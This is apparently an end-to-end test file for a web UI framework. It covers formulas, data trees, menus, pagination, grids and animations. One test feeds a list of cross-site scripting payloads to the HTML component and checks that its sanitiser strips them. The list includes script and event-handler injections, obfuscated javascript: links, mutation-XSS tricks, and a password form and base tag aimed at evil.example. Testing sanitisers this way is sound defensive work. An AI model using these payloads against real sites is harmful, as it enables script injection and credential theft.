// Elements as they are built, under a strict content policy, with real keys: badges, room, trees, formulas, HTML, code, menus, pages, grids, balloons.
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { findViolations } from "./accessible.ts";
import { buildSite, type Built } from "./built.ts";
import { sharedBrowser } from "./open.ts";
import type { Watched } from "./chromium.ts";

/** What would execute something, load a document, or change what is around it. */
const hostile = [
  `<script>window.executed = 1</script>`,
  `<img src="x" onerror="window.executed = 2">`,
  `<svg onload="window.executed = 3"><script>window.executed = 4</script><a xlink:href="javascript:window.executed = 5"><text>s</text></a></svg>`,
  `<a href="java&#10;script:window.executed = 6">run</a>`,
  `<iframe srcdoc="<script>parent.executed = 7</script>"></iframe><object data="x"></object><embed src="x">`,
  `<form action="https://evil.example/"><input name="password"><button formaction="javascript:window.executed = 8">send</button></form>`,
  `<style>body { display: none }</style><link rel="stylesheet" href="x"><meta http-equiv="refresh" content="0;url=x"><base href="https://evil.example/">`,
  `<div id="dc" onclick="window.executed = 11" style="position: fixed; inset: 0">over everything</div>`,
  `<template><img src=x onerror="window.executed = 12"></template><dc-icon name="star"></dc-icon>`,
  `<p id="kept">kept <a href="https://example.org/">outside</a> <a href="/inside">inside</a> <a href="#kept">here</a></p>`,
  // What takes all that follows stands at the end.
  `<noscript><p title="</noscript><img src=x onerror=window.executed=10>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.executed=9&gt;">`,
].join("\n");

const files = {
  "texts.app.tsx": `import { Badge, Html, Json, Latex, Skeleton, Space, Row, Text, Title } from "dacapo";
    const hues = ["red", "orange", "yellow", "green", "blue", "violet", "gray", "primary"] as const;
    <Title>Texts</Title>;
    <Row>{() => { for (const color of hues) <Badge key={color} color={color} icon="🎻">{color}</Badge>; }}</Row>;
    <Latex>{String.raw\`\\frac{a}{b}\`}</Latex>;
    <Latex>{String.raw\`\\nosuchcommand{\`}</Latex>;
    <Latex>{"x_{" + "1234567890 +".repeat(40) + "0}"}</Latex>;
    <Json data={{ apple: { b: 1, c: [true, null] }, beta: "two", banana: new Map([["c", 12n]]) }} label="Fruit" />;
    <Json data={Array.from({ length: 100_000 }, (_, n) => ({ n }))} label="Many" />;
    <Text>above</Text>;
    <Space size={100} />;
    <Text>below</Text>;
    <Row><Text>left</Text><Space size="stretch" /><Text>right</Text></Row>;
    <Skeleton height={90} />;`,
  "html.app.tsx": `import { Html, query, Title } from "dacapo";
    const at = query({ text: "" });
    <Title>HTML</Title>;
    <Html>{${JSON.stringify(hostile)}}</Html>;
    <Html class="wide">{"<table><tr>" + "<td>1234567890</td>".repeat(60) + "</tr></table>"}</Html>;`,
  "menus.app.tsx": `import { Code, Container, DataFrame, Grid, Menu, Pagination, session, Text, TextInput, Title } from "dacapo";
    const state = session({ done: [] as string[] });
    <Title>Menus</Title>;
    const deed = <Menu label="Export" icon="🎻" options={["CSV", "JSON", "Parquet", "Paper"]} help="All rows" />;
    if (deed !== null) state.done.push(deed);
    <Text>done {state.done.join()}</Text>;
    <Menu label="None" options={[]} />;
    const page = <Pagination numPages={20} label="Results" />;
    <Text>page {page}</Text>;
    <Pagination numPages={20} maxVisiblePages={0} label="Small" />;
    <Grid minColumnWidth={150}>{() => { for (let n = 0; n < 6; n++) <Text key={n} class="cell">cell {n}</Text>; }}</Grid>;
    <Grid columns={2} minColumnWidth={150} border>{() => { for (let n = 0; n < 4; n++) <Text key={n} class="half">half {n}</Text>; }}</Grid>;
    const name = <TextInput label="Name" live={50} required />;
    <Text>name {name}</Text>;
    <Container height={200} align="center" justify="end" gap={0} class="middle"><Text>in the middle</Text></Container>;
    <DataFrame data={[{ a: 1 }]} height={120} />;
    <Code language="python" lineNumbers>{'def f(x):\\n  # twice\\n  return 2 * len("a" + x.name)'}</Code>;
    <Code language="html">{'<p class="a">text</p>'}</Code>;
    <Code height={80}>{"line\\n".repeat(50)}</Code>;`,
  "feasts.app.tsx": `import { Balloons, Button, Snow, Text, Title } from "dacapo";
    <Title>Feasts</Title>;
    const go = <Button onClick={() => { <Balloons />; }}>Go</Button>;
    if (go) <Snow />;
    <Text>below {String(go)}</Text>;`,
};

let built: Built;
let browser: Browser;
beforeAll(async () => {
  [built, browser] = await Promise.all([buildSite(files), sharedBrowser()]);
}, 300_000);
afterAll(() => built.close());

async function findNothingWrong(page: Watched, refused: () => Promise<string[]>): Promise<void> {
  expect(await refused()).toEqual([]);
  expect(page.problems).toEqual([]);
  for (const colorScheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme });
    await expect.poll(() => findViolations(page)).toEqual([]);
  }
}

describe("texts", () => {
  it("a formula is drawn, one that cannot be read is shown, and one that is too wide is scrolled by keys", async () => {
    const { page, refused } = await built.page("texts", browser);
    const shown = () =>
      page.locator(".dc-latex dc-math").evaluateAll((all) =>
        all.map(({ shadowRoot }) => {
          const inside = shadowRoot!.firstElementChild!;
          return (inside.querySelector("math") ?? inside).localName;
        }),
      );
    await expect.poll(shown).toEqual(["math", "span", "math"]);
    await page.setViewportSize({ width: 360, height: 700 });
    await expect.poll(() => page.locator(".dc-latex[tabindex='0']").count()).toBe(1);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
    await findNothingWrong(page, refused);
    await page.close();
  });

  it("a tree is followed by real keys, and what is in it opens in a moment", async () => {
    const { page } = await built.page("texts", browser);
    const tree = page.getByRole("tree", { name: "Fruit" });
    const press = async (...keys: string[]): Promise<string> => {
      for (const key of keys) await page.keyboard.press(key);
      return page.evaluate(() => document.activeElement!.textContent!);
    };
    await tree.locator("[tabindex='0']").focus();
    expect(await press("ArrowDown", "ArrowRight", "ArrowRight")).toBe("b: 1");
    expect(await press("ArrowDown", "ArrowRight", "ArrowRight")).toBe("0: true");
    expect(await press("ArrowLeft", "ArrowLeft", "ArrowLeft")).toBe("apple: 2 fields");
    expect(await press("b", "b", "b", "Enter", "ArrowDown")).toBe('"c": 12n');
    expect(await tree.getByRole("treeitem", { expanded: true }).count()).toBe(3);
    // One stop for Tab.
    await press("Tab");
    expect(await page.evaluate(() => document.activeElement!.closest("[role=tree]")?.ariaLabel)).toBe("Many");
    await page.getByText("10,000 … 19,999").click();
    await page.getByText("12,300 … 12,399").click();
    await page.getByText("12345: 1 field").click();
    await page.getByText("n: 12345").waitFor();
    await page.close();
  });

  it("room is as high or as wide as it is asked for", async () => {
    const { page } = await built.page("texts", browser);
    const at = async (text: string) => (await page.getByText(text, { exact: true }).boundingBox())!;
    const [above, below, left, right] = await Promise.all(["above", "below", "left", "right"].map(at));
    expect(below!.y - above!.y - above!.height).toBe(132);
    expect(right!.y).toBe(left!.y);
    expect(right!.x - left!.x).toBeGreaterThan(400);
    expect((await page.locator(".dc-skeleton").boundingBox())!.height).toBe(90);
    await page.close();
  });
});

it("of HTML is left what only shows something", async () => {
  const { page, refused } = await built.page("html", browser);
  const html = page.locator(".dc-html").first();
  await html.locator("a").first().waitFor();
  const tags = await html.evaluate((place) => [...place.querySelectorAll("*")].map(({ localName }) => localName));
  for (const tag of ["script", "iframe", "object", "embed", "form", "style", "link", "meta", "base", "dc-icon"])
    expect(tags).not.toContain(tag);
  const handlers = await html.evaluate((place) =>
    [...place.querySelectorAll("*")].flatMap((each) =>
      each.getAttributeNames().filter((name) => /^(on|form)/.test(name)),
    ),
  );
  expect(handlers).toEqual([]);
  const links = await html
    .locator("a")
    .evaluateAll((all) =>
      all.map((link) => ["href", "xlink:href", "target", "rel"].map((name) => link.getAttribute(name))),
    );
  expect(links).toEqual([
    [null, null, null, null],
    [null, null, null, null],
    ["https://example.org/", null, "_blank", "noopener noreferrer"],
    ["/inside", null, null, null],
    ["#user-content-kept", null, null, null],
  ]);
  await html.getByText("over everything").click();
  expect(await page.evaluate(() => (globalThis as { executed?: number }).executed)).toBeUndefined();
  expect(await html.getByText("over everything").evaluate((each) => getComputedStyle(each).position)).toBe("fixed");
  // What is fixed stays in its box.
  const [inside, around] = [(await html.getByText("over everything").boundingBox())!, (await html.boundingBox())!];
  expect(inside.height).toBeLessThanOrEqual(around.height);
  await page.setViewportSize({ width: 360, height: 700 });
  await page.locator(".dc-html.wide[tabindex='0']").waitFor();
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
  expect(await refused()).toEqual([]);
  await page.close();
});

describe("menus", () => {
  it("a menu is opened, followed and left by real keys, and chosen from by either", async () => {
    const { page, refused } = await built.page("menus", browser);
    const button = page.getByRole("button", { name: "Export" });
    const focused = () => page.evaluate(() => document.activeElement!.textContent);
    const press = async (...keys: string[]) => {
      for (const key of keys) await page.keyboard.press(key);
      return focused();
    };
    await button.focus();
    expect(await press("ArrowDown")).toBe("CSV");
    await expect.poll(() => button.getAttribute("aria-expanded")).toBe("true");
    expect(await press("ArrowDown", "ArrowDown", "ArrowDown", "ArrowDown")).toBe("CSV");
    expect(await press("ArrowUp")).toBe("Paper");
    expect(await press("Home")).toBe("CSV");
    expect(await press("p")).toBe("Parquet");
    expect(await press("p")).toBe("Paper");
    await findNothingWrong(page, refused);
    await press("Enter");
    await page.getByText("done Paper", { exact: true }).waitFor();
    expect(await focused()).toContain("Export");
    await press("ArrowUp", "Escape");
    expect(await focused()).toContain("Export");
    await expect.poll(() => button.getAttribute("aria-expanded")).toBe("false");
    await press("Enter");
    await expect.poll(focused).toBe("CSV");
    await press("Tab");
    await expect.poll(() => page.getByRole("menu").count()).toBe(0);
    await button.click();
    await page.getByRole("menuitem", { name: "JSON" }).click();
    await page.getByText("done Paper,JSON", { exact: true }).waitFor();
    await page.close();
  });

  it("pages are gone through, and the focus stays at the end", async () => {
    const { page, refused } = await built.page("menus", browser);
    const results = page.getByRole("navigation", { name: "Results" });
    await results.getByRole("button", { name: "Page 20" }).click();
    await page.getByText("page 20", { exact: true }).waitFor();
    await results.getByRole("button", { name: "Previous page" }).focus();
    await page.keyboard.press("Enter");
    await page.getByText("page 19", { exact: true }).waitFor();
    await results.getByRole("button", { name: "Next page" }).focus();
    for (let times = 0; times < 3; times++) await page.keyboard.press("Enter");
    await page.getByText("page 20", { exact: true }).waitFor();
    expect(await page.evaluate(() => document.activeElement!.getAttribute("aria-label"))).toBe("Next page");
    await page.setViewportSize({ width: 320, height: 700 });
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
    const tops = await results
      .locator("button:visible")
      .evaluateAll((all) => all.map((each) => each.getBoundingClientRect().top));
    expect(new Set(tops).size).toBe(1);
    await findNothingWrong(page, refused);
    await page.close();
  });

  it("a live field tells what is typed, and the caret stays", async () => {
    const { page, refused } = await built.page("menus", browser);
    const field = page.getByRole("textbox", { name: "Name" });
    await field.pressSequentially("Aa");
    await page.getByText("name Aa", { exact: true }).waitFor();
    await page.keyboard.press("ArrowLeft");
    await page.keyboard.type("d");
    await page.getByText("name Ada", { exact: true }).waitFor();
    expect(await field.evaluate((input: HTMLInputElement) => [input.selectionStart, input.value])).toEqual([2, "Ada"]);
    const [box, text] = [
      (await page.locator(".middle").boundingBox())!,
      (await page.getByText("in the middle").boundingBox())!,
    ];
    expect(Math.abs(text.y + text.height / 2 - box.y - box.height / 2)).toBeLessThan(2);
    expect(text.x).toBeGreaterThan(box.x + box.width / 2);
    await findNothingWrong(page, refused);
    await page.close();
  });

  it("a grid has as many columns as there is room for, and no more than it is told", async () => {
    const { page } = await built.page("menus", browser);
    const columns = (cells: string) =>
      page
        .locator(cells)
        .evaluateAll((all) => new Set(all.map((each) => Math.round(each.getBoundingClientRect().left))).size);
    // A table of data is another kind of grid.
    await page.getByRole("grid").waitFor();
    await page.setViewportSize({ width: 800, height: 700 });
    expect([await columns(".cell"), await columns(".half")]).toEqual([4, 2]);
    await page.setViewportSize({ width: 400, height: 700 });
    expect([await columns(".cell"), await columns(".half")]).toEqual([2, 2]);
    await page.setViewportSize({ width: 320, height: 700 });
    expect([await columns(".cell"), await columns(".half")]).toEqual([1, 1]);
    await page.close();
  });

  it("code comes in the colours of its language, and its text is what it was", async () => {
    const { page } = await built.page("menus", browser);
    const code = page.locator("[data-language=python] code");
    await code.locator("[data-kind=keyword]").first().waitFor();
    expect(await code.locator("[data-kind=comment]").innerText()).toBe("# twice");
    expect(await code.textContent()).toBe('def f(x):\n  # twice\n  return 2 * len("a" + x.name)\n');
    expect(await page.locator("[data-language=html] code").textContent()).toBe('<p class="a">text</p>');
    expect((await page.locator(".dc-code pre").last().boundingBox())!.height).toBe(80);
    await page.close();
  });
});

describe("feasts", () => {
  it("go over the page without moving it or being in the way, and are gone after a while", async () => {
    const { page, refused } = await built.page("feasts", browser);
    await page.evaluate(() => {
      const seen = globalThis as unknown as { shifts: number };
      seen.shifts = 0;
      new PerformanceObserver((list) => {
        for (const shift of list.getEntries()) seen.shifts += (shift as unknown as { value: number }).value;
      }).observe({ type: "layout-shift", buffered: true });
    });
    await page.getByRole("button", { name: "Go" }).click();
    await page.getByText("below true").waitFor();
    expect(await page.locator(".dc-balloons, .dc-snow").count()).toBe(2);
    // They are there, and everything is pressed through them.
    await page.getByRole("button", { name: "Go" }).click();
    expect(await page.locator(".dc-balloons, .dc-snow").count()).toBe(4);
    await page.locator(".dc-snow > i").first().waitFor();
    await findNothingWrong(page, refused);
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
    await expect.poll(() => page.locator(".dc-balloons, .dc-snow").count()).toBe(0);
    expect(await page.evaluate(() => (globalThis as unknown as { shifts: number }).shifts)).toBe(0);
    await page.close();
  });

  it("are not seen by who wants less motion", async () => {
    const { page } = await built.page("feasts", browser);
    await page.emulateMedia({ reducedMotion: "reduce" });
    await page.getByRole("button", { name: "Go" }).click();
    await page.locator(".dc-snow").waitFor({ state: "attached" });
    expect(await page.locator(".dc-balloons, .dc-snow").locator("visible=true").count()).toBe(0);
    await page.close();
  });
});
